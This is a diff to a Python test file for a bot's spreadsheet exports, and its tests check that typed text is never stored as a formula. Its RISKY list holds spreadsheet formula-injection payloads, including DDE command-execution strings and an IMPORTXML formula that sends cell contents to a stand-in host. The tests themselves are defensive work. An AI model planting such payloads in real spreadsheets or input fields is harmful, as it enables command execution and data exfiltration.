@@ -29,9 +29,29 @@ from tests.conftest import Harness, build_tower, register
 
 NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 RISKY = [
-    '=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", " =1+1",
-    "＝1+1", "＋1+1", "－2+3", "＠SUM(A1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "=cmd|' /C calc'!A0",
-    '=DDE("cmd";"/C calc";"!A0")', "  \t@A1", "=1+1", "=-1", "+", "-", "@",
+    '=HYPERLINK("http://x","y")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tcmd",
+    "\r=1",
+    " =1+1",
+    "＝1+1",
+    "＋1+1",
+    "－2+3",
+    "＠SUM(A1)",
+    "﹦1+1",
+    "﹢1",
+    "﹣1",
+    "﹫A1",
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")',
+    "  \t@A1",
+    "=1+1",
+    "=-1",
+    "+",
+    "-",
+    "@",
     '=IMPORTXML(CONCAT("http://x/?q=",A1),"//a")',
 ]
 #: inputs that can travel inside a '|'-separated command
@@ -39,6 +59,7 @@ NO_PIPE = [r for r in RISKY if "|" not in r]
 
 
 # --- reading an .xlsx as a zip ---------------------------------------------------------------
+
 
 def xlsx_cells(data: bytes) -> list[tuple[str, str | None, str | None]]:
     """(sheet/ref, t attribute, text) of every cell of every sheet; asserts no formula at all."""
@@ -84,6 +105,7 @@ def check_export(data: bytes, expected: list[str]) -> None:
 
 # --- the cell writer -------------------------------------------------------------------------
 
+
 def roundtrip(values: list[Any], write_only: bool) -> tuple[bytes, list[Any]]:
     wb = Workbook(write_only=write_only)
     ws = wb.create_sheet("x") if write_only else wb.active
@@ -114,10 +136,12 @@ def test_cell_writer_on_any_text(text: str, head: str) -> None:
 
 # --- every export, through the bot -----------------------------------------------------------
 
+
 def when(days: int) -> str:
     tz = Settings().tz
     return datetime.fromtimestamp(datetime.now(tz).timestamp() + days * 86400, tz).strftime(
-        "%Y-%m-%d %H:%M")
+        "%Y-%m-%d %H:%M"
+    )
 
 
 async def rows(tb: Harness, sql: str) -> list[str]:
@@ -153,8 +177,11 @@ async def test_every_export_keeps_typed_text_as_text(tb: Harness) -> None:
         await tb.services.hours.decide(boss["id"], entry_id, approve=True)
 
     first_names = await rows(tb, "SELECT first_name FROM users WHERE username LIKE 'risky%'")
-    real_names = await rows(tb, "SELECT p.real_name FROM people p JOIN users u ON u.id ="
-                                " p.user_id WHERE u.username LIKE 'risky%'")
+    real_names = await rows(
+        tb,
+        "SELECT p.real_name FROM people p JOIN users u ON u.id ="
+        " p.user_id WHERE u.username LIKE 'risky%'",
+    )
     org_names = await rows(tb, "SELECT name FROM orgs WHERE code LIKE 'yanshan.r%'")
     descriptions = await rows(tb, "SELECT description FROM hour_entries")
     titles = await rows(tb, "SELECT title FROM activities")
@@ -180,7 +207,8 @@ async def test_every_export_keeps_typed_text_as_text(tb: Harness) -> None:
     # the rest straight from the builder /export campaign uses
     built = [doc["bytes"] for doc in docs[3:]] + [
         (await tb.services.stats.campaign_workbook(boss["id"], cid, "zh"))[0]
-        for cid in campaigns[3:]]
+        for cid in campaigns[3:]
+    ]
     for data, title, report in zip(built, camp_titles, reports, strict=True):
         check_export(data, [title, report])
 
